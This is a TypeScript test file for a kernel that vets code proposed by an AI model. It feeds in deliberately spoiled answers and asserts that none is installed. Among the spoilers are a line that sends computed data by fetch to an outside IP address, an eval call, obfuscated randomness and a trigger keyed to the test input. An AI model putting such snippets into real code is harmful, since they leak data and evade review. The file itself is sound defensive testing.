/**
 * Random bad answers by seed: whatever a mind says, what is installed has passed its checks. Each answer is made wrong
 * on purpose in a known way; `TELOS_BAD_ANSWERS` says how many, 10,000 for the figure that is quoted.
 */
import assert from "node:assert/strict";
import fc from "fast-check";
import { draftOf } from "../../../actors/kernel/draft.ts";
import { ProposalFault } from "../../../actors/kernel/errors.ts";
import { Kernel } from "../../../actors/kernel/mod.ts";
import { openTestWorld, set } from "../../support/world.ts";

const RUNS = Number(Deno.env.get("TELOS_BAD_ANSWERS") ?? 120);
const SEED = Number(Deno.env.get("TELOS_SEED") ?? 20_261_127);

interface Base {
  readonly body: string;
  readonly answer: (width: number, by: number) => unknown;
}

const bases: readonly Base[] = [
  { body: 'self.get("width") * by', answer: (width, by) => width * by },
  { body: 'self.get("width") + by', answer: (width, by) => width + by },
  { body: '[self.get("width"), by]', answer: (width, by) => [width, by] },
  { body: '`${self.get("width")} ${by}`', answer: (width, by) => `${width} ${by}` },
  { body: 'self.get("width") > by', answer: (width, by) => width > by },
];

type Answer = Record<string, unknown>;
/** Each makes a sound answer one that must not be installed. */
const spoil: readonly ((answer: Answer, base: Base, noise: string) => unknown)[] = [
  (answer) => ({ ...answer, examples: [{ slots: { width: 2 }, arguments: [3], answer: "something else" }] }),
  (answer) => ({ ...answer, examples: [{ slots: { width: 2 }, arguments: [3], after: { width: 77 } }] }),
  (answer) => ({ ...answer, examples: [] }),
  (answer) => ({ ...answer, examples: [{ arguments: [3] }] }),
  (answer, { body }) => ({ ...answer, source: `(self, by) => { self.set("width", by); return ${body}; }` }),
  (answer, { body }) => ({
    ...answer,
    source: `(self, by) => { const it = self; it.remove("width"); return ${body}; }`,
  }),
  (answer, { body }) => ({
    ...answer,
    source: `(self, by) => { self.get("friend").set("width", 1); return ${body}; }`,
  }),
  (answer, { body }) => ({ ...answer, source: `(self, by) => Math.random() < 2 ? ${body} : 0` }),
  (answer, { body }) => ({ ...answer, source: `(self, by) => Math["ran" + "dom"]() < 2 ? ${body} : 0` }),
  (answer, { body }) => ({ ...answer, source: `(self, by) => { Date.now(); return ${body}; }` }),
  (answer, { body }) => ({ ...answer, source: `async (self, by) => ${body}` }),
  (answer, { body }) => ({ ...answer, source: `function* (self, by) { yield ${body}; }` }),
  (answer, { body }) => ({ ...answer, source: `(self, by) => (${body}` }),
  (answer, { body }) => ({ ...answer, source: `((self, by) => ${body})(1, 2)` }),
  (answer, { body }) => ({
    ...answer,
    source: `(self, by) => { fetch("http://198.51.100.7/?" + ${body}); return ${body}; }`,
  }),
  (answer, { body }) => ({ ...answer, source: `(self, by) => { eval("1"); return ${body}; }` }),
  // The message itself is sent with 7.
  (answer, { body }) => ({
    ...answer,
    source: `(self, by) => { if (by === 7) throw new Error("no"); return ${body}; }`,
  }),
  (answer, { body }) => ({
    ...answer,
    source: `(self, by) => by === 7 ? self : by === 3 ? ${body} : undefinedName`,
  }),
  (answer) => ({ ...answer, source: 42 }),
  (answer) => ({ ...answer, effects: ["network"] }),
  (answer) => ({ ...answer, refusal: "no" }),
  (_answer, _base, noise) => noise,
  (_answer, _base, noise) => ({ [noise]: noise }),
  (answer) => JSON.stringify(answer).slice(0, -7),
];

const wrong = fc.record({
  base: fc.constantFrom(...bases),
  spoilers: fc.uniqueArray(fc.nat(spoil.length - 1), { minLength: 1, maxLength: 2 }),
  noise: fc.string({ maxLength: 60 }),
});

Deno.test(`KN19 Over ${RUNS} random bad answers nothing is installed that has not passed its checks`, async () => {
  await using test = await openTestWorld();
  const { world, sandbox } = test;
  let answer: unknown;
  const kernel = new Kernel({
    world,
    runner: sandbox,
    compile: (source) => sandbox.checkSource(source),
    askMind: () =>
      Promise.resolve({ persona: "BRICK", mind: "ollama", model: "m", digest: null, text: String(answer) }),
    recall: () => Promise.resolve([]),
    clock: Date.now,
    emit: () => {},
    onError: (error) => assert.fail(String(error)),
  });
  await set(world, "kernel", "generation", "auto");
  await set(world, "kernel", "tries", 1);
  await set(world, "square", "friend", { $ref: "shape" });
  const before = await world.context("square");
  const send = () => {
    const message = { receiver: "square", selector: "measure", arguments: [7], who: "test" };
    return kernel.send(message, () => world.deliver("square", "measure", [7]));
  };
  const sound = ({ body, answer }: Base) => ({
    source: `(self, by) => ${body}`,
    doc: "",
    effects: [],
    examples: [{ slots: { width: 2 }, arguments: [3], answer: answer(2, 3) }],
  });
  await fc.assert(
    fc.asyncProperty(wrong, async ({ base, spoilers, noise }) => {
      let spoiled: unknown = sound(base);
      for (const index of spoilers) {
        if (typeof spoiled === "object") spoiled = spoil[index]!(spoiled as Answer, base, noise);
      }
      answer = typeof spoiled === "string" ? spoiled : JSON.stringify(spoiled);
      await assert.rejects(send());
      await kernel.settled();
      assert.deepEqual(await world.context("square"), before);
    }),
    { numRuns: RUNS, seed: SEED },
  );
  answer = JSON.stringify(sound(bases[0]!));
  assert.equal((await send()).value, 35, "a sound one is installed all the same");
  await kernel.close();
});

Deno.test("KN19 an answer that is nested deeper than the stack is a fault like any other, and is tried again", () => {
  const deep = "[".repeat(15_000) + "]".repeat(15_000);
  const example = `{"arguments":${deep},"answer":1}`;
  const answer = `{"source":"(self) => 1","doc":"","effects":[],"examples":[${example}]}`;
  assert.throws(() => draftOf(answer), ProposalFault);
});
